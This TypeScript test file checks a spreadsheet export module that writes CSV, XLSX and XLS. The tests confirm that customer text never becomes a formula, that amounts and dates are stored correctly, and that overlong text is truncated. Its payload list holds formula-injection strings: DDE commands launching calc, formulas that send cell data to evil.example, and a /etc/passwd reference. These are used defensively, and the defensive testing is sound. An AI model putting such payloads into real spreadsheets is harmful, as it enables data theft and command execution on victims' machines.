/** Cells, as spreadsheet programs take them: never a formula, never a wrong number, never longer than they hold. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { Cell, Heading, Layout } from '../../bff/sheet/cells.ts'
import { localClock } from '../../bff/sheet/cells.ts'
import { csvHead, csvOf } from '../../bff/sheet/csv.ts'
import { Hands } from '../../bff/sheet/hands.ts'
import { Workbook } from '../../bff/sheet/workbook.ts'
import { workbookWriter } from '../../bff/sheet/workbook-fork.ts'
import { readXlsx, xlsRecords } from '../kit/xlsx.ts'

const text: Heading = { title: 'Objet', kind: 'text', width: 20 }
const money: Heading = { title: 'Total', kind: 'money', width: 12 }
const date: Heading = { title: 'Date', kind: 'date', width: 12 }
const layout = (...headings: Heading[]): Layout => ({ name: 'Essai', language: 'fr', headings })

/** What a customer could write into a field so that the vendor's, or a colleague's, spreadsheet program runs it. */
const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example/"&B2)',
  "+1+cmd|' /C calc'!A0",
  '+33 2 41 00 00 00',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@import',
  '\t=1+1',
  '\r=1+1',
  '=1+1\n=2+2',
  '="a"&CHAR(10)',
  '=DDE("cmd";"/C calc";"x")',
  "='file:///etc/passwd'#$passwd.A1",
  '{=1+1}',
  '";=1+1;"',
  '_x003D_1+1',
]

test('twenty formula payloads stay text in every format', () => {
  assert.equal(payloads.length, 20)
  const plan = layout(text, text)
  const rows = payloads.map((payload): Cell[] => [payload, 'Jean dit "l’Ancien"; à 10 %'])
  const csv = csvOf(rows, plan)
  for (const payload of payloads) {
    const [line = ''] = csvOf([[payload, null]], plan).split(';\r\n')
    const shown = line.startsWith('"') ? line.slice(1, -1).replaceAll('""', '"') : line
    assert.doesNotMatch(shown, /^[=+\-@\t\r]/, payload)
    assert.equal(shown, /^[=+\-@\t\r]/.test(payload) ? `'${payload}` : payload)
  }
  assert.equal((csv.match(/"Jean dit ""l’Ancien""; à 10 %"\r\n/g) ?? []).length, payloads.length)

  const book = new Workbook(plan)
  book.add(rows)
  const { rows: read, xml } = readXlsx(book.bytes('xlsx'))
  assert.doesNotMatch(xml, /<f[ >]/)
  for (const [n, payload] of payloads.entries()) {
    const cell = read[n + 1]?.[0]
    assert.equal(cell?.type, 's', payload)
    // A carriage return is a control character to XML; what is left of it is not shown, and no formula.
    assert.equal(cell?.value.replaceAll('\r', ''), payload.replace('_x003D_', '=').replaceAll('\r', ''))
  }

  const old = new Workbook(plan)
  for (let n = 0; n < 20; n++) old.add(rows)
  const records = xlsRecords(old.bytes('xls'))
  assert.equal(records.get(0x0006), undefined)
  assert.ok([...records.keys()].length > 10, 'the records were read')
})

test('twin: the reader of these tests sees a formula where there is one', async () => {
  const { default: XLSX } = await import('sheetjs-style')
  const sheet = { A1: { t: 'n', v: 2, f: '1+1' }, '!ref': 'A1' }
  const bytes = XLSX.write({ SheetNames: ['x'], Sheets: { x: sheet } } as never, { type: 'buffer', bookType: 'xlsx' })
  assert.equal(readXlsx(bytes as Buffer).rows[0]?.[0]?.type, 'f')
})

test('amounts are numbers that show and sum as they were written; what a double cannot hold stays text', () => {
  const amounts = ['0.10', '0.20', '1284.60', '-12.05', '999999999999.99', '0.00', '4.35', '1.005']
  const book = new Workbook(layout(money))
  book.add([...amounts, '12345678901234567.89', 'sur demande'].map((value) => [value]))
  const cells = readXlsx(book.bytes('xlsx'))
    .rows.slice(1)
    .map(([cell]) => cell)
  for (const [n, amount] of amounts.entries()) {
    assert.equal(cells[n]?.type, 'n')
    assert.equal(Number(cells[n]?.value).toFixed(amount.split('.')[1]?.length), amount)
  }
  assert.deepEqual(
    cells.slice(-2).map((cell) => [cell?.type, cell?.value]),
    [
      ['s', '12345678901234567.89'],
      ['s', 'sur demande'],
    ],
  )
  assert.equal(csvOf([['-1284.60']], layout(money)), '-1284,60\r\n')
  assert.equal(csvOf([['-1284.60']], { ...layout(money), language: 'en' }), '-1284.60\r\n')
})

test('days are days, whatever the clock of the machine; what no spreadsheet’s calendar holds stays text', () => {
  const book = new Workbook(layout(date, { ...date, kind: 'instant' }))
  book.add([
    ['2026-11-21', '2026-11-21 23:59'],
    ['1900-03-01', '2024-02-29 00:00'],
    ['1815-06-18', 'infinity'],
    [null, ''],
  ])
  const [, first, second, third] = readXlsx(book.bytes('xlsx')).rows
  assert.deepEqual([first?.[0]?.type, first?.[0]?.value], ['n', '46347'])
  assert.equal(Number(first?.[1]?.value).toFixed(6), (46347 + 1439 / 1440).toFixed(6))
  assert.deepEqual([second?.[0]?.value, second?.[1]?.value], ['61', '45351'])
  assert.deepEqual([third?.[0]?.type, third?.[0]?.value, third?.[1]?.value], ['s', '1815-06-18', 'infinity'])
  const clock = localClock('Europe/Paris')
  assert.equal(clock('2026-07-01T22:30:00.000Z'), '2026-07-02 00:30')
  assert.equal(clock('2026-12-01T22:30:00.000Z'), '2026-12-01 23:30')
  assert.equal(clock('infinity'), 'infinity')
})

test('text keeps its letters, loses what a workbook cannot hold, and ends at 32,767 characters', () => {
  const book = new Workbook(layout(text))
  const long = 'é'.repeat(40_000)
  book.add([[long], ['a\u0000b\u0007c\ud800d'], ['  deux  espaces '], ['<b>&amp;"\'</b>'], ['日本語 🖨️']])
  const values = readXlsx(book.bytes('xlsx'))
    .rows.slice(1)
    .map(([cell]) => cell?.value)
  assert.equal(values[0]?.length, 32_767)
  assert.ok(values[0]?.endsWith('é…'))
  assert.deepEqual(values.slice(1), ['abc\ufffdd', '  deux  espaces ', '<b>&amp;"\'</b>', '日本語 🖨️'])
})

test('CSV begins with its mark, so that Excel reads it as UTF-8', () => {
  assert.equal(csvHead(layout(text, money)), '\ufeffObjet;Total\r\n')
  assert.equal(csvHead({ ...layout(text, money), language: 'en' }), '\ufeffObjet,Total\r\n')
})

test('a workbook’s process that dies says so; nothing of it is left', async () => {
  const kept: Uint8Array[] = []
  const writer = await workbookWriter('xlsx', layout(text), async (bytes) => void kept.push(bytes))
  await writer.rows([['a']])
  writer.drop()
  await assert.rejects(writer.rows([['b']]), /process ended|closed|EPIPE/)
  await assert.rejects(writer.end(), /process ended|closed/)
  assert.deepEqual(kept, [])
})

test('so many at a time, in the order of coming, and a failure makes room as well', async () => {
  const hands = new Hands(2)
  const order: string[] = []
  let atWork = 0
  const gates = Array.from({ length: 4 }, () => Promise.withResolvers<void>())
  const works = gates.map((gate, n) =>
    hands.hold(async () => {
      order.push(`begin ${n}`)
      assert.ok(++atWork <= 2)
      await gate.promise
      atWork--
      if (n === 0) throw new Error('no')
    }),
  )
  const settled = Promise.allSettled(works)
  gates[0]?.resolve()
  await works[0]?.catch(() => {})
  for (const gate of gates) gate.resolve()
  await settled
  assert.deepEqual(order, ['begin 0', 'begin 1', 'begin 2', 'begin 3'])
})
